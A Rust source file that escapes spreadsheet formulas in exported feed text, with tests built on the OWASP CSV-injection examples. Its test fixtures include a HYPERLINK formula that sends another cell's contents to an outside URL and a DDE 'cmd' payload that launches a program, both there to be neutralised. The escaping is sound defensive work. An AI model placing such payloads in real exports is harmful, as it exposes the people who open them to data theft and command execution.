//! What stands in a cell: text that no spreadsheet runs, numbers, instants, and nothing where nothing is known.

use downboard_core::model::{Zone, is_shown};
use downboard_core::time::Timestamp;

use crate::json::instant;

/// A cell.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub(super) struct Cell(String);

impl Cell {
    /// Text as a feed gave it. What a spreadsheet would run as a formula begins with an apostrophe, so that it is text there;
    /// characters that nobody sees are left out.
    pub(super) fn text(text: &str) -> Self {
        let shown: String = text.chars().filter(|character| *character == '\n' || is_shown(*character)).collect();
        Self(if is_formula(&shown) { format!("'{shown}") } else { shown })
    }

    /// Texts, one a line. An empty one keeps its line, so that the lines of two cells belong to each other.
    pub(super) fn lines<'a>(texts: impl IntoIterator<Item = &'a str>) -> Self {
        let lines: Vec<String> = texts.into_iter().map(|text| text.replace('\n', " ")).collect();
        if lines.iter().all(String::is_empty) { Self::default() } else { Self::text(&lines.join("\n")) }
    }

    /// A number in digits.
    pub(super) fn number(number: impl Into<u64>) -> Self {
        Self(number.into().to_string())
    }

    /// An instant as the JSON writes it.
    pub(super) fn instant(at: Timestamp, zone: &Zone) -> Self {
        Self(instant(at, zone))
    }
}

impl AsRef<[u8]> for Cell {
    fn as_ref(&self) -> &[u8] {
        self.0.as_bytes()
    }
}

/// Whether a spreadsheet would run a text: it begins like a formula and is no number. What may stand before is looked through,
/// because some spreadsheets take it off.
fn is_formula(text: &str) -> bool {
    let begins = text.trim_start().starts_with(['=', '+', '-', '@', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}']);
    begins && !is_number(text)
}

/// Whether a text is a plain number: a sign, digits, and perhaps a point and digits.
fn is_number(text: &str) -> bool {
    let is_digits = |text: &str| !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_digit());
    let unsigned = text.strip_prefix(['+', '-']).unwrap_or(text);
    match unsigned.split_once('.') {
        Some((whole, part)) => is_digits(whole) && is_digits(part),
        None => is_digits(unsigned),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    /// The cells are those that OWASP lists under "CSV Injection"
    /// (<https://owasp.org/www-community/attacks/CSV_Injection>): a spreadsheet that opens a file from a feed runs them, sends
    /// what is in other cells to a server, or starts a program.
    #[test]
    fn a_spreadsheet_runs_no_cell() {
        for (text, cell) in [
            // The four signs that begin a formula.
            ("=1+2", "'=1+2"),
            ("+1+2", "'+1+2"),
            ("-1+2", "'-1+2"),
            ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
            // A link that sends other cells away, and a program that is started.
            (
                "=HYPERLINK(\"https://example.org/?\"&A1,\"Status\")",
                "'=HYPERLINK(\"https://example.org/?\"&A1,\"Status\")",
            ),
            ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
            // Tab and carriage return begin a formula too. They are left out, and what follows them is looked at.
            ("\t=1+2", "'=1+2"),
            ("\r=1+2", "'=1+2"),
            ("\r\n=1+2", "'\n=1+2"),
            ("\tdown", "down"),
            // What is not seen, or taken off, hides nothing.
            ("\n=1+2", "'\n=1+2"),
            ("  =1+2", "'  =1+2"),
            ("\u{feff}=1+2", "'=1+2"),
            ("\u{200b}=1+2", "'=1+2"),
            ("\0=1+2", "'=1+2"),
            // Spreadsheets for East Asia take the wide signs for the others.
            ("\u{ff1d}1+2", "'\u{ff1d}1+2"),
            ("\u{ff20}SUM(A1)", "'\u{ff20}SUM(A1)"),
            // A plain number is what it says.
            ("-12", "-12"),
            ("+3.5", "+3.5"),
            ("-", "'-"),
            ("-1.", "'-1."),
            ("-1.2.3", "'-1.2.3"),
            // Within a text the signs are text.
            ("a=1", "a=1"),
            ("Chat - down", "Chat - down"),
            ("'=1", "'=1"),
            ("", ""),
        ] {
            assert_eq!(Cell::text(text).0, cell, "{text:?}");
        }
    }

    #[test]
    fn lines_belong_to_each_other_and_nothing_is_an_empty_cell() {
        for (texts, cell) in [
            (vec!["one", "two"], "one\ntwo"),
            (vec!["", "https://example.org/"], "\nhttps://example.org/"),
            (vec!["a\nb", "c"], "a b\nc"),
            (vec!["=1", "two"], "'=1\ntwo"),
            (vec!["", ""], ""),
            (vec![], ""),
        ] {
            assert_eq!(Cell::lines(texts.iter().copied()).0, cell, "{texts:?}");
        }
    }

    proptest! {
        #[test]
        fn no_text_begins_like_a_formula_or_holds_a_control_character(text in "[=+@\t\r\n '0-9.\u{feff}-]{0,6}\\PC{0,4}") {
            let Cell(cell) = Cell::text(&text);
            let begins = cell.trim_start().starts_with(['=', '+', '-', '@', '\t', '\r']);
            prop_assert!(!begins || cell.parse::<f64>().is_ok(), "{cell:?}");
            prop_assert!(cell.chars().all(|character| character == '\n' || !character.is_control()), "{cell:?}");
            let shown: String = text.chars().filter(|character| *character == '\n' || is_shown(*character)).collect();
            prop_assert_eq!(cell.strip_prefix('\'').filter(|_| !shown.starts_with('\'')).unwrap_or(&cell), shown);
        }
    }
}
